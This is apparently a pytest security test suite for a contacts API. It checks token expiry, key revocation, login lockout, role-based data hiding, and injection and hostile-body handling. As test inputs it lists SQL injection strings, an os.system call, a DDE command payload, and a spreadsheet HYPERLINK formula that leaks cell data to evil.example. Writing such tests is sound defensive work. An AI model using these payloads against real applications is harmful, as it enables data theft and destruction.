"""Attacks on the API over HTTP: stolen or stale credentials, guessing, reading across roles,
injection into search, filters and segments, hostile bodies, and formulas in exports."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from rolodex.exceptions import InputError
from rolodex.secure.auth import issue_token
from rolodex.workspace import Workspace
from tests.api.conftest import PASSWORD, login

API = "/api/v1"
HOSTILE = (
    "' OR 1=1 --",
    "' OR '1'='1",
    "x' UNION SELECT password_hash FROM app_user --",
    "Doe'; DROP TABLE contact; --",
    '" OR ""="',
    "%",
    "_",
    "\\",
    "*",
    "1) OR (1=1",
)


def _contact_id(client: TestClient, headers: dict[str, str], email: str) -> int:
    found = client.get(f"{API}/contacts/search", headers=headers, params={"q": email})
    assert found.status_code == 200, found.text
    items = found.json()["items"]
    assert len(items) == 1, items
    return int(items[0]["id"])


def _contact_count(ws: Workspace) -> int:
    with ws.engine.connect() as conn:
        return int(conn.execute(text("SELECT count(*) FROM contact")).scalar_one())


def _key_headers(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


# --- credentials ------------------------------------------------------------------------


def test_an_expired_token_is_refused(client: TestClient) -> None:
    secret = client.app.state.token_secret  # type: ignore[attr-defined]
    an_hour_ago = datetime.now(UTC) - timedelta(hours=1)
    stale = issue_token(
        username="admin-user", secret=secret, ttl=timedelta(minutes=15), now=an_hour_ago
    )
    fresh = issue_token(username="admin-user", secret=secret, ttl=timedelta(minutes=15))
    assert client.get(f"{API}/auth/me", headers=_key_headers(fresh.token)).status_code == 200
    answer = client.get(f"{API}/contacts", headers=_key_headers(stale.token))
    assert answer.status_code == 401
    assert answer.headers["WWW-Authenticate"] == "Bearer"
    assert "expired" in answer.json()["detail"]


def test_a_token_signed_with_another_secret_is_refused(client: TestClient) -> None:
    forged = issue_token(username="admin-user", secret=b"x" * 32, ttl=timedelta(minutes=15))
    assert client.get(f"{API}/auth/me", headers=_key_headers(forged.token)).status_code == 401


def test_logout_revokes_the_token(client: TestClient, admin: dict[str, str]) -> None:
    assert client.get(f"{API}/auth/me", headers=admin).status_code == 200
    assert client.post(f"{API}/auth/logout", headers=admin).status_code == 204
    assert client.get(f"{API}/auth/me", headers=admin).status_code == 401
    assert client.get(f"{API}/contacts", headers=admin).status_code == 401
    assert client.get(f"{API}/auth/me", headers=login(client, "admin")).status_code == 200


def test_a_disabled_user_is_refused_at_once(client: TestClient, api_ws: Workspace) -> None:
    token = login(client, "sales")
    _, key = api_ws.apikey_create("sales-user", name="crm sync")
    assert client.get(f"{API}/contacts", headers=token).status_code == 200
    assert client.get(f"{API}/contacts", headers={"X-API-Key": key}).status_code == 200
    api_ws.user_disable("sales-user")
    assert client.get(f"{API}/contacts", headers=token).status_code == 401
    assert client.get(f"{API}/contacts", headers={"X-API-Key": key}).status_code == 401
    assert client.get(f"{API}/contacts", headers=_key_headers(key)).status_code == 401
    again = client.post(f"{API}/auth/login", json={"username": "sales-user", "password": PASSWORD})
    assert again.status_code == 401


def test_a_revoked_api_key_is_refused(client: TestClient, api_ws: Workspace) -> None:
    info, key = api_ws.apikey_create("admin-user", name="nightly export")
    _, other = api_ws.apikey_create("admin-user", name="still in use")
    assert client.get(f"{API}/contacts", headers=_key_headers(key)).status_code == 200
    api_ws.apikey_revoke(info.id)
    assert client.get(f"{API}/contacts", headers=_key_headers(key)).status_code == 401
    assert client.get(f"{API}/contacts", headers={"X-API-Key": key}).status_code == 401
    assert client.get(f"{API}/contacts", headers=_key_headers(other)).status_code == 200
    tampered = key[:-4] + ("AAAA" if not key.endswith("AAAA") else "BBBB")
    assert client.get(f"{API}/contacts", headers=_key_headers(tampered)).status_code == 401


def test_api_key_scopes_narrow_what_the_role_allows(client: TestClient, api_ws: Workspace) -> None:
    _, reader = api_ws.apikey_create("admin-user", name="reader", scopes=["contacts:read"])
    headers = _key_headers(reader)
    assert client.get(f"{API}/contacts", headers=headers).status_code == 200
    before = _contact_count(api_ws)
    create = client.post(
        f"{API}/contacts",
        headers=headers,
        json={"first_name": "Eve", "last_name": "Scoped", "email": "eve@scoped.example"},
    )
    assert create.status_code == 403, create.text
    bulk = client.post(
        f"{API}/contacts/bulk",
        headers=headers,
        json={"records": [{"first_name": "Eve", "email": "eve2@scoped.example"}]},
    )
    assert bulk.status_code == 403
    assert _contact_count(api_ws) == before
    me = client.get(f"{API}/auth/me", headers=headers).json()
    assert me["scopes"] == ["contacts:read"]
    assert me["permissions"]["contacts"] == ["read"]


def test_five_wrong_passwords_lock_the_account(client: TestClient) -> None:
    wrong = [
        client.post(
            f"{API}/auth/login", json={"username": "support-user", "password": "not it at all"}
        ).status_code
        for _ in range(5)
    ]
    assert wrong == [401] * 4 + [429]  # the fifth failure locks the account
    locked = client.post(
        f"{API}/auth/login", json={"username": "support-user", "password": PASSWORD}
    )
    assert locked.status_code == 429, locked.text
    assert int(locked.headers["Retry-After"]) > 60
    assert "access_token" not in locked.json()
    # Another account is not locked by these failures.
    assert client.get(f"{API}/auth/me", headers=login(client, "sales")).status_code == 200


def test_unknown_names_lock_like_real_ones(client: TestClient) -> None:
    answers = [
        client.post(f"{API}/auth/login", json={"username": "nobody", "password": "guess"})
        for _ in range(6)
    ]
    assert [a.status_code for a in answers] == [401] * 4 + [429] * 2


# --- reading across roles ---------------------------------------------------------------


@pytest.fixture
def owned(api_ws: Workspace, client: TestClient, admin: dict[str, str]) -> dict[str, int]:
    """Two contacts with owners: one in the sales user's team (north), one outside it."""
    api_ws.user_add("south-seller", password=PASSWORD, role="sales", team="south")
    ours = _contact_id(client, admin, "jane.doe@example.com")
    theirs = _contact_id(client, admin, "juergen@mueller.de")
    with api_ws.engine.begin() as conn:
        conn.execute(text("UPDATE contact SET owner = 'support-user' WHERE id = :i"), {"i": ours})
        conn.execute(text("UPDATE contact SET owner = 'south-seller' WHERE id = :i"), {"i": theirs})
    return {"ours": ours, "theirs": theirs}


def test_team_scope_shows_only_the_teams_contacts(
    client: TestClient, owned: dict[str, int]
) -> None:
    sales = login(client, "sales")
    listed = client.get(f"{API}/contacts", headers=sales, params={"limit": 500}).json()
    assert [i["id"] for i in listed["items"]] == [owned["ours"]]
    for q, expected in (("jane.doe@example.com", 1), ("juergen@mueller.de", 0), ("M", 0)):
        found = client.get(f"{API}/contacts/search", headers=sales, params={"q": q}).json()
        assert len(found["items"]) == expected, (q, found)
    assert client.get(f"{API}/contacts/{owned['ours']}", headers=sales).status_code == 200
    hidden = client.get(f"{API}/contacts/{owned['theirs']}", headers=sales)
    assert hidden.status_code == 404  # not 403: nobody learns the id exists
    change = client.patch(
        f"{API}/contacts/{owned['theirs']}",
        headers={**sales, "If-Match": '"anything"'},
        json={"job_title": "Owned"},
    )
    assert change.status_code == 404
    south = {"Authorization": f"Bearer {_token(client, 'south-seller')}"}
    south_ids = [i["id"] for i in client.get(f"{API}/contacts", headers=south).json()["items"]]
    assert south_ids == [owned["theirs"]]


def _token(client: TestClient, username: str) -> str:
    answer = client.post(f"{API}/auth/login", json={"username": username, "password": PASSWORD})
    assert answer.status_code == 200, answer.text
    return str(answer.json()["access_token"])


def _walk(value: Any) -> list[tuple[str, Any]]:
    """Every (key, value) pair in a JSON document, at any depth."""
    found: list[tuple[str, Any]] = []
    if isinstance(value, dict):
        for k, v in value.items():
            found.append((k, v))
            found += _walk(v)
    elif isinstance(value, list):
        for v in value:
            found += _walk(v)
    return found


def test_support_never_receives_birth_dates_or_raw_phones(
    client: TestClient, admin: dict[str, str]
) -> None:
    cid = _contact_id(client, admin, "jane.doe@example.com")
    full = client.get(f"{API}/contacts/{cid}", headers=admin).json()
    assert full["birth_date"] == "1985-03-14"
    phones = {full["phone"], "+15551234567", "+1 555 123 4567", "5551234567"}
    support = login(client, "support")
    answers = [
        client.get(f"{API}/contacts", headers=support, params={"limit": 500}),
        client.get(f"{API}/contacts/search", headers=support, params={"q": "jane.doe@example.com"}),
        client.get(f"{API}/contacts/search", headers=support, params={"q": "Doe"}),
        client.get(f"{API}/contacts/{cid}", headers=support),
    ]
    for answer in answers:
        assert answer.status_code == 200, answer.text
        body = answer.json()
        body.pop("q", None)  # a search echoes the query the caller sent
        pairs = _walk(body)
        assert pairs
        assert not [k for k, _ in pairs if "birth" in k.lower()], answer.url
        raw = json.dumps(body, ensure_ascii=False)
        assert "1985-03-14" not in raw, answer.url
        for phone in phones:
            assert phone not in raw, (answer.url, phone)
    assert answers[2].json()["items"], "support can still find a customer by name"
    assert answers[3].json()["phone"].endswith(full["phone"][-4:])  # masked, not removed


# --- injection --------------------------------------------------------------------------


def test_sql_in_search_is_only_text(
    client: TestClient, admin: dict[str, str], api_ws: Workspace
) -> None:
    before = _contact_count(api_ws)
    for q in HOSTILE:
        answer = client.get(f"{API}/contacts/search", headers=admin, params={"q": q})
        assert answer.status_code == 200, (q, answer.text)
        assert answer.json()["items"] == [], q
    assert _contact_count(api_ws) == before


def test_sql_in_list_filters_is_only_text(
    client: TestClient, admin: dict[str, str], api_ws: Workspace
) -> None:
    before = _contact_count(api_ws)
    for field in ("country", "email_domain", "lifecycle_stage", "city"):
        for value in HOSTILE:
            if value == "*":
                continue  # a documented prefix wildcard in list filters ("Ber*")
            answer = client.get(f"{API}/contacts", headers=admin, params={field: value})
            assert answer.status_code in (200, 422), (field, value, answer.text)
            if answer.status_code == 200:
                assert answer.json()["items"] == [], (field, value)
    for name in ("country; DROP TABLE contact", "1=1 OR country", "password_hash", "owner--"):
        answer = client.get(f"{API}/contacts", headers=admin, params={name: "x"})
        assert answer.status_code == 422, (name, answer.text)
    bad_cursor = client.get(f"{API}/contacts", headers=admin, params={"after": "' OR 1=1 --"})
    assert bad_cursor.status_code == 422
    assert _contact_count(api_ws) == before


SEGMENT_ATTACKS = (
    "country = 'DE'; DROP TABLE contact",
    "country = 'DE' UNION SELECT password_hash FROM app_user",
    "country = 'DE' OR 1=1 --",
    "password_hash = 'x'",
    "app_user.username = 'admin-user'",
    "country = (SELECT country FROM contact)",
    "country = 'DE' /* comment */",
    "__import__('os').system('true')",
    'country = "DE"',
    "country = 'DE' or",
    "(" * 200 + "country = 'DE'" + ")" * 200,
)


def _segment_attacker(api_ws: Workspace) -> Workspace:
    return api_ws.acting_as(api_ws.principal_for("marketing-user"), origin="203.0.113.9")


def test_filter_language_injection_in_segments_is_refused(api_ws: Workspace) -> None:
    marketing = _segment_attacker(api_ws)
    before = _contact_count(api_ws)
    for i, where in enumerate(SEGMENT_ATTACKS):
        with pytest.raises(InputError):
            marketing.segment_create(f"attack-{i}", where=where)
    # A quote inside a string is data: it matches nobody rather than widening the filter.
    literal = marketing.segment_create("literal", where="country = 'DE'' OR ''1''=''1'")
    assert literal.members == 0
    assert _contact_count(api_ws) == before
    assert all(not s.name.startswith("attack-") for s in api_ws.segments())


def _has_route(client: TestClient, method: str, path: str) -> bool:
    """Whether the API publishes `method path` (from its schema: routers come and go)."""
    paths = client.get(f"{API}/openapi.json").json()["paths"]
    return method.lower() in paths.get(path, {})


def test_filter_language_injection_over_http(client: TestClient, api_ws: Workspace) -> None:
    if not _has_route(client, "POST", f"{API}/segments"):
        pytest.skip("no POST /segments route yet; the library test covers the filter language")
    marketing = login(client, "marketing")
    before = _contact_count(api_ws)
    for i, where in enumerate(SEGMENT_ATTACKS):
        answer = client.post(
            f"{API}/segments", headers=marketing, json={"name": f"attack-{i}", "where": where}
        )
        assert answer.status_code == 422, (where, answer.text)
        assert answer.headers["content-type"] == "application/problem+json"
    assert _contact_count(api_ws) == before


# --- hostile bodies ---------------------------------------------------------------------


def _post_raw(
    client: TestClient, headers: dict[str, str], path: str, body: bytes, content_type: str
) -> Any:
    return client.post(
        f"{API}{path}", headers={**headers, "Content-Type": content_type}, content=body
    )


def test_malformed_json_is_a_problem_not_an_error(
    client: TestClient, admin: dict[str, str], api_ws: Workspace
) -> None:
    before = _contact_count(api_ws)
    for body in (
        b"{not json",
        b"",
        b"null",
        b"[]",
        b'"a string"',
        b'{"first_name": "Ann",}',
        b'{"first_name": NaN}',
        b"\xff\xfe\x00garbage",
        b'{"first_name": "\\ud800"}',  # a lone surrogate: no such character
        b'{"first_name": "a\\u0000b", "email": "nul@example.com"}',
    ):
        answer = _post_raw(client, admin, "/contacts", body, "application/json")
        assert answer.status_code in (400, 422), (body, answer.status_code, answer.text)
        assert answer.headers["content-type"] == "application/problem+json", body
        assert answer.json()["status"] == answer.status_code
    assert _contact_count(api_ws) == before


def test_a_body_that_is_not_json_is_refused(
    client: TestClient, admin: dict[str, str], api_ws: Workspace
) -> None:
    before = _contact_count(api_ws)
    good = json.dumps({"first_name": "Ann", "email": "ann@ctype.example"}).encode()
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/xml"):
        answer = _post_raw(client, admin, "/contacts", good, content_type)
        assert answer.status_code in (415, 422), (content_type, answer.text)
        assert answer.headers["content-type"] == "application/problem+json"
    form = client.post(f"{API}/contacts", headers=admin, data={"first_name": "Ann"})
    assert form.status_code in (415, 422)
    assert _contact_count(api_ws) == before


def test_deeply_nested_json_is_refused(
    client: TestClient, admin: dict[str, str], api_ws: Workspace
) -> None:
    before = _contact_count(api_ws)
    depth = 100_000
    nested_list = b"[" * depth + b"]" * depth
    nested_object = b'{"a":' * depth + b"1" + b"}" * depth
    for body in (
        nested_list,
        nested_object,
        b'{"first_name": "Ann", "extra": ' + nested_list + b"}",
        b'{"records": [{"first_name": "Ann", "x": ' + nested_object + b"}]}",
    ):
        for path in ("/contacts", "/contacts/bulk"):
            answer = _post_raw(client, admin, path, body, "application/json")
            assert answer.status_code in (400, 413, 422), (path, answer.status_code)
            assert answer.headers["content-type"] == "application/problem+json"
    assert _contact_count(api_ws) == before


def test_more_than_the_bulk_limit_is_refused_whole(
    client: TestClient, admin: dict[str, str], api_ws: Workspace
) -> None:
    before = _contact_count(api_ws)
    records = [{"first_name": f"P{i}", "email": f"p{i}@limit.example"} for i in range(10_001)]
    answer = client.post(f"{API}/contacts/bulk", headers=admin, json={"records": records})
    assert answer.status_code == 422, answer.text[:300]
    assert answer.headers["content-type"] == "application/problem+json"
    updates = [{"id": 1, "changes": {"job_title": "x"}} for _ in range(10_001)]
    answer = client.patch(f"{API}/contacts/bulk", headers=admin, json={"updates": updates})
    assert answer.status_code == 422
    assert _contact_count(api_ws) == before


def test_a_huge_field_value_is_refused(client: TestClient, admin: dict[str, str]) -> None:
    answer = client.post(f"{API}/contacts", headers=admin, json={"first_name": "A" * 100_000})
    assert answer.status_code == 422
    search = client.get(f"{API}/contacts/search", headers=admin, params={"q": "a" * 10_000})
    assert search.status_code == 422


# --- exports ----------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_formulas_in_exports_are_neutralized(api_ws: Workspace, tmp_path: Path) -> None:
    made = api_ws.create_contacts(
        [
            {
                "first_name": FORMULA,
                "last_name": "+SUM(1,2)",
                "email": "formula@evil.example",
                "company_name": "@cmd|' /C calc'!A0",
                "job_title": "-2+3",
            }
        ],
        on_match="create",
    )
    assert made[0].status == "created", made[0]
    exported = tmp_path / "contacts.csv"
    assert api_ws.export("contacts", exported) > 0
    segment = tmp_path / "segment.csv"
    api_ws.segment_create("evil", where="email = 'formula@evil.example'")
    assert api_ws.segment_export("evil", segment, everyone=True).written == 1
    for path in (exported, segment):
        cells = _cells(path)
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path
        names = [c for c in cells if "HYPERLINK" in c]
        assert names, path
        assert all(c.startswith("'=") for c in names), (path, names)
